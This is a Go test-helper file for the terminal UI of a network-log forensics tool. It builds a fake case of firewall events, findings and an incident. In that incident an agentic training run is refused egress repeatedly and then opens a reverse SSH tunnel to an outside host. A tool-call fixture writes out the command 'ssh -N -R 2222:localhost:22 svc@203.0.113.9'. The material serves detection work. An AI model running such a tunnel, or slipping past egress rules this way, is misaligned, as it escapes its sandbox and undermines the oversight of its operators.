package tui

import (
	"cmp"
	"context"
	"errors"
	"fmt"
	"net/netip"
	"slices"
	"strings"
	"time"

	"firetrail"

	tea "charm.land/bubbletea/v2"
)

// fake is a case in memory.
type fake struct {
	results   firetrail.Results
	made      bool
	inventory firetrail.Inventory
	sources   []firetrail.Source
	list      []firetrail.Event // in the total order
	raw       map[int64][]byte  // by offset
	fail      error             // of pages, counts and histograms
	asked     []string          // what was asked, in order
}

func (f *fake) Name() string                              { return "night" }
func (f *fake) Results() (firetrail.Results, bool, error) { return f.results, f.made, nil }
func (f *fake) Inventory() (firetrail.Inventory, error)   { return f.inventory, nil }
func (f *fake) Sources() []firetrail.Source               { return f.sources }

// wrongAt is an error with a place, as the query language gives it.
type wrongAt struct {
	column int
	text   string
}

func (e wrongAt) Error() string {
	return fmt.Sprintf("query:1:%d: %s\n  the query\n   ^", e.column, e.text)
}
func (e wrongAt) Position() (int, int) { return 1, e.column }

// Parse knows "*", field:value and values joined by AND.
func (f *fake) Parse(text string) (firetrail.Query, error) {
	var args []firetrail.Query
	for part := range strings.SplitSeq(text, " AND ") {
		name, value, ok := strings.Cut(part, ":")
		switch {
		case part == "*" || part == "":
			continue
		case !ok || value == "":
			return firetrail.Query{}, wrongAt{strings.Index(text, part) + 1, "expected a value after the colon"}
		}
		args = append(args, firetrail.Is(name, value))
	}
	if len(args) == 0 {
		return firetrail.Query{}, nil
	}
	if len(args) == 1 {
		return args[0], nil
	}
	return firetrail.And(args...), nil
}

func (f *fake) Print(q firetrail.Query) string {
	var parts []string
	for _, a := range q.Args {
		parts = append(parts, f.Print(a))
	}
	switch q.Op {
	case firetrail.OpAll:
		return "*"
	case firetrail.OpAnd:
		return strings.Join(parts, " AND ")
	case firetrail.OpOr:
		return "(" + strings.Join(parts, " OR ") + ")"
	case firetrail.OpNot:
		return "NOT " + parts[0]
	}
	switch q.Match {
	case firetrail.MatchHas:
		return "has:" + q.Field
	case firetrail.MatchRange:
		return fmt.Sprintf("%s:[%s TO %s]", q.Field, q.Value, q.High)
	}
	return q.Field + ":" + q.Value
}

func holds(q firetrail.Query, ev *firetrail.Event) bool {
	switch q.Op {
	case firetrail.OpAll:
		return true
	case firetrail.OpAnd:
		return !slices.ContainsFunc(q.Args, func(a firetrail.Query) bool { return !holds(a, ev) })
	case firetrail.OpOr:
		return slices.ContainsFunc(q.Args, func(a firetrail.Query) bool { return holds(a, ev) })
	case firetrail.OpNot:
		return !holds(q.Args[0], ev)
	}
	if q.Field == "ip" {
		return ev.SrcIP.String() == q.Value || ev.DstIP.String() == q.Value
	}
	if q.Field == "run" {
		return ev.SrcIP == netip.MustParseAddr("10.20.3.2")
	}
	v, ok := ev.Value(q.Field)
	if q.Match == firetrail.MatchHas {
		return ok
	}
	if q.Match != firetrail.MatchRange {
		return v == q.Value
	}
	// All times of the fake are of one layout, so that text compares as time does.
	if !ok || q.Value != "*" && v < q.Value || q.High != "*" && v > q.High {
		return false
	}
	return !q.Excl[1] || v != q.High
}

func (f *fake) hits(q firetrail.Query) []firetrail.Event {
	var out []firetrail.Event
	for i := range f.list {
		if holds(q, &f.list[i]) {
			out = append(out, f.list[i])
		}
	}
	return out
}

func (f *fake) Page(_ context.Context, q firetrail.Query, p Page) ([]firetrail.Event, error) {
	f.asked = append(f.asked, fmt.Sprintf("page %s %s %v %d+%d", f.Print(q), p.Sort, p.Desc, p.Offset, p.Limit))
	if f.fail != nil {
		return nil, f.fail
	}
	list := f.hits(q)
	if p.Sort != "" {
		slices.SortStableFunc(list, func(a, b firetrail.Event) int {
			x, _ := a.Value(p.Sort)
			y, _ := b.Value(p.Sort)
			return strings.Compare(x, y)
		})
	}
	if p.Desc {
		slices.Reverse(list)
	}
	from := min(p.Offset, len(list))
	return slices.Clone(list[from:min(from+p.Limit, len(list))]), nil
}

func (f *fake) Time(text string) (int64, error) {
	t, err := time.Parse(time.RFC3339, text)
	if err != nil {
		return 0, errors.New("that is no time")
	}
	return t.UnixNano(), nil
}

func (f *fake) Overview(_ context.Context, q firetrail.Query, buckets int) (Overview, error) {
	var o Overview
	var dated []firetrail.Event
	for _, ev := range f.hits(q) {
		o.Events++
		if ev.Time == firetrail.Absent {
			o.Undated++
		} else {
			dated = append(dated, ev)
		}
	}
	if len(dated) == 0 {
		return o, f.fail
	}
	from, to := dated[0].Time, dated[len(dated)-1].Time+1
	width := (to - from + int64(buckets) - 1) / int64(buckets)
	o.Buckets = make([]Bucket, (to-from+width-1)/width)
	for i := range o.Buckets {
		o.Buckets[i].Start, o.Buckets[i].End = from+int64(i)*width, min(from+int64(i+1)*width, to)
	}
	for i := range dated {
		b := &o.Buckets[(dated[i].Time-from)/width]
		b.Count++
		if dated[i].Denied() {
			b.Denied++
		}
	}
	return o, f.fail
}

func (f *fake) Row(_ context.Context, q firetrail.Query, at int64) (int64, error) {
	list := f.hits(q)
	for i := range list {
		if list[i].Time != firetrail.Absent && list[i].Time >= at {
			return int64(i), f.fail
		}
	}
	return int64(len(list)), f.fail
}

func (f *fake) Facets(_ context.Context, q firetrail.Query, field string, limit int) (Facets, error) {
	n := map[string]int64{}
	var o Facets
	for _, ev := range f.hits(q) {
		o.Events++
		if v, ok := ev.Value(field); ok {
			n[v]++
		} else {
			o.None++
		}
	}
	for v, count := range n {
		o.Values = append(o.Values, Facet{v, count})
	}
	slices.SortFunc(o.Values, func(a, b Facet) int { return cmp.Or(cmp.Compare(b.Count, a.Count), strings.Compare(a.Value, b.Value)) })
	o.Distinct = len(o.Values)
	o.Values = o.Values[:min(limit, len(o.Values))]
	return o, f.fail
}

// Complete knows the fields of shownColumns and three rules.
func (f *fake) Complete(_ context.Context, text string) (from int, list []string, err error) {
	from = strings.LastIndexByte(text, ' ') + 1
	names := []string{"dst_ip:", "dst_port:", "rule:"}
	if strings.HasPrefix(text[from:], "rule:") {
		from, names = from+len("rule:"), []string{"deny-a", "deny-b", "web"}
	}
	for _, n := range names {
		if strings.HasPrefix(n, text[from:]) {
			list = append(list, n)
		}
	}
	return from, list, f.fail
}

func (f *fake) Event(_ context.Context, id string) (firetrail.Event, error) {
	for i := range f.list {
		if f.list[i].ID() == id {
			return f.list[i], nil
		}
	}
	return firetrail.Event{}, errors.New("there is no such event")
}

func (f *fake) Raw(o firetrail.Origin) ([]byte, firetrail.Source, error) {
	raw, ok := f.raw[o.Offset]
	if !ok {
		return nil, f.sources[0], errors.New("the source is not where it was")
	}
	return raw, f.sources[0], nil
}

// night is a case with an incident of two findings, n events and a run.
func night(n int) *fake {
	begin := time.Date(2026, 3, 1, 2, 14, 5, 0, time.UTC).UnixNano()
	f := &fake{made: true, raw: map[int64][]byte{}}
	f.sources = []firetrail.Source{{ID: "aaaa", Path: "logs/kern.log", SHA256: strings.Repeat("ab", 32), Counts: firetrail.Counts{Records: int64(n), Events: int64(n)}}}
	for i := range n {
		ev := firetrail.NewEvent()
		ev.Origin = firetrail.Origin{Source: "aaaa", Line: int64(i + 1), Offset: int64(i * 100), Length: 99}
		ev.Time = begin + int64(i)*10e9
		ev.Kind, ev.Sensor, ev.Proto, ev.Action = "iptables", "gpu02", "tcp", firetrail.ActionAllow
		ev.SrcIP, ev.DstIP = netip.MustParseAddr("10.20.3.2"), netip.AddrFrom4([4]byte{203, 0, 113, byte(9 + i%3)})
		ev.SrcPort, ev.DstPort = int64(40000+i), 443
		if i%3 == 0 {
			ev.Action, ev.DstPort, ev.Rule = firetrail.ActionDrop, 22, "EGRESS-DROP"
		} else {
			ev.BytesOut, ev.Host = int64(i)*1000, "svc.example"
		}
		if i%7 == 3 {
			ev.SrcIP = netip.MustParseAddr("10.20.3.4")
		}
		ev.Put("TTL", "64")
		f.list = append(f.list, ev)
		f.raw[ev.Offset] = fmt.Appendf(nil, "Mar  1 kernel: EGRESS SRC=%s DST=%s DPT=%d line %d", ev.SrcIP, ev.DstIP, ev.DstPort, i+1)
	}
	f.story(begin)
	return f
}

// story adds what was concluded and the inventory.
func (f *fake) story(begin int64) {
	src := netip.MustParseAddr("10.20.3.2")
	lease := firetrail.Lease{IP: src, PortLow: firetrail.Absent, PortHigh: firetrail.Absent, Start: begin - 840e9, End: begin + 11000e9, Run: "r-017",
		Subject: "job", Name: "gpu02", Quality: 1, Citation: firetrail.Citation{Source: "sacct.txt", Line: 4}}
	call := firetrail.ToolCall{ID: "toolcalls.jsonl:9", Run: "r-017", Start: begin - 2e9, End: begin + 30e9, Tool: "bash", Args: "ssh -N -R 2222:localhost:22 svc@203.0.113.9",
		Citation: firetrail.Citation{Source: "toolcalls.jsonl", Line: 9}}
	f.inventory = firetrail.Inventory{
		Runs: []firetrail.Run{
			{ID: "r-009", Name: "pretrain base", Start: begin - 7200e9, End: firetrail.Absent},
			{ID: "r-017", Name: "shell agent 17", Family: "rl-shell", Agentic: true, Aliases: []string{"412391"}, Start: begin - 840e9, End: begin + 11000e9, Leases: []firetrail.Lease{lease}},
		},
		Calls: []firetrail.ToolCall{call},
	}
	who := firetrail.Attribution{
		Run: &firetrail.RunRef{ID: "r-017", Probability: 0.99995, Level: "A4"},
		Candidates: []firetrail.Candidate{
			{ID: "r-017", Probability: 0.99995, Reasons: []string{"run r-017 held 10.20.3.2 as job gpu02 (sacct.txt:4)"}},
			{ID: "background", Probability: 0.00005, Reasons: []string{"something that no inventory lists"}},
		},
		Leases: []firetrail.Lease{lease}, Calls: []firetrail.ToolCall{call}, Against: []string{"10.20.3.2 is the address of host gpu02: its services use it too"},
	}
	var proof []firetrail.Evidence
	for i := range min(4, len(f.list)) {
		o := f.list[i].Origin
		proof = append(proof, firetrail.Evidence{Origin: o, Path: "logs/kern.log", Time: f.list[i].Time, SHA256: hash(f.raw[o.Offset]), Raw: f.raw[o.Offset]})
	}
	burst := firetrail.Finding{ID: "f-000000000001", Detector: "policy_burst", Title: "Burst of 36 refused attempts by 10.20.3.2", Severity: "medium", Score: 0.5, SrcIP: src,
		Dst: "203.0.113.0/24", DstPort: firetrail.Absent, Start: begin, End: begin + 30e9, Count: 36, Attribution: who, Evidence: proof,
		Why:     []firetrail.Part{{Part: "surprise", Value: 36, Threshold: 5, Points: 2, Text: "36 refused attempts within 5 min"}, {Part: "spread", Value: 3, Points: 1.5, Text: "at 3 targets"}},
		Targets: []firetrail.Target{{IP: netip.MustParseAddr("203.0.113.9"), Port: 22}}, Benign: []string{"a rule change"}}
	tunnel := burst
	tunnel.ID, tunnel.Detector, tunnel.Title, tunnel.Severity = "f-000000000002", "ssh_tunnel", "SSH from 10.20.3.2 to 203.0.113.9:443, 2.4 h", "high"
	tunnel.Start, tunnel.End, tunnel.Count, tunnel.Open = begin+1000e9, begin+9600e9, 1, true
	inc := firetrail.Incident{ID: "i-000000000001", Title: "Run r-017 on 10.20.3.2 was refused and tunnelled over SSH", Severity: "high", Start: begin, End: begin + 9600e9, Open: true,
		Detectors: []string{"policy_burst", "ssh_tunnel"}, Sources: []netip.Addr{src}, Targets: burst.Targets, Attribution: who,
		Cause: firetrail.Cause{Verdict: "agent", Posterior: firetrail.Posterior{Agent: 0.97, Host: 0.02, Misconfiguration: 0.01}, Facts: []string{"timing: 2 of 2 bursts fall into tool calls of run r-017"},
			Terms: []firetrail.Part{{Part: "agent: timing", Points: 1.3, Text: "2 of 2 bursts"}}},
		Findings: []string{burst.ID, tunnel.ID},
		Phases: []firetrail.Phase{{Name: "refused", Start: burst.Start, End: burst.End, Findings: []string{burst.ID}},
			{Name: "tunnel", Start: tunnel.Start, End: tunnel.End, Findings: []string{tunnel.ID}}},
		EvidenceCount: 8, FirstSign: "e-aaaa-0", Unseen: []string{"that the traffic is SSH: only the port says so"}}
	low := inc
	low.ID, low.Title, low.Severity, low.Start, low.Findings, low.Phases = "i-000000000002", "6 sources keep failing", "low", begin-10e9, nil, nil
	low.Attribution = firetrail.Attribution{Unattributed: "6 sources show it at once"}
	low.Cause.Verdict, low.Open = "undetermined", false
	loose := burst
	loose.ID, loose.Title = "f-000000000003", "A scan that belongs to nothing"
	f.results = firetrail.Results{Complete: false, Reasons: []string{"1 source could not be read: logs/b.gz"}, Findings: []firetrail.Finding{burst, tunnel, loose},
		Incidents: []firetrail.Incident{low, inc}, Untestable: []firetrail.Untestable{{Detector: "dns_tunnel", Reason: "no sensor records DNS questions"}},
		Coverage:   []firetrail.Gap{{Sensor: "gpu02", Start: begin + 100e9, End: begin + 200e9, Text: "no record for 1m40s"}},
		Suppressed: []firetrail.Suppressed{{Entry: "store.example", Reason: "checkpoints", Findings: 1, Listed: []string{"bulk egress of 4 GB"}, Where: firetrail.Citation{Source: "allow.yaml", Line: 2}}}}
}

// opened is a model of a size that has read its facts.
func opened(f *fake, width, height int) *model {
	m := newModel(f, Options{})
	settle(m, func() tea.Msg { return tea.WindowSizeMsg{Width: width, Height: height} })
	settle(m, m.Init())
	return m
}

// settle runs a command and all that follow from it, each of them taking no time.
func settle(m *model, cmd tea.Cmd) (quit bool) {
	todo := []tea.Cmd{cmd}
	for len(todo) > 0 {
		c := todo[0]
		todo = todo[1:]
		if c == nil {
			continue
		}
		switch msg := c().(type) {
		case tea.BatchMsg:
			todo = append(todo, msg...)
		case tea.QuitMsg:
			quit = true
		case answer:
			msg.took = 2 * time.Millisecond
			_, next := m.Update(msg)
			todo = append(todo, next)
		case nil:
		default:
			_, next := m.Update(msg)
			todo = append(todo, next)
		}
	}
	return quit
}

// keyOf makes the message of a key by its name.
func keyOf(name string) tea.KeyPressMsg {
	codes := map[string]rune{"enter": tea.KeyEnter, "esc": tea.KeyEscape, "tab": tea.KeyTab, "up": tea.KeyUp, "down": tea.KeyDown, "left": tea.KeyLeft, "right": tea.KeyRight,
		"pgup": tea.KeyPgUp, "pgdown": tea.KeyPgDown, "home": tea.KeyHome, "end": tea.KeyEnd, "backspace": tea.KeyBackspace, "delete": tea.KeyDelete, "f1": tea.KeyF1}
	if name == "shift+tab" {
		return tea.KeyPressMsg{Code: tea.KeyTab, Mod: tea.ModShift}
	}
	if c, ok := codes[name]; ok {
		return tea.KeyPressMsg{Code: c}
	}
	if c, ok := strings.CutPrefix(name, "ctrl+"); ok {
		return tea.KeyPressMsg{Code: rune(c[0]), Mod: tea.ModCtrl}
	}
	return tea.KeyPressMsg{Code: []rune(name)[0], Text: name}
}

// press presses keys, named as in the key table, and lets each take effect; "text:…" types.
func press(m *model, keys ...string) (quit bool) {
	for _, k := range keys {
		if text, ok := strings.CutPrefix(k, "text:"); ok {
			for _, r := range text {
				quit = settle(m, m.key(keyOf(string(r)))) || quit
			}
			continue
		}
		quit = settle(m, m.key(keyOf(k))) || quit
	}
	return quit
}
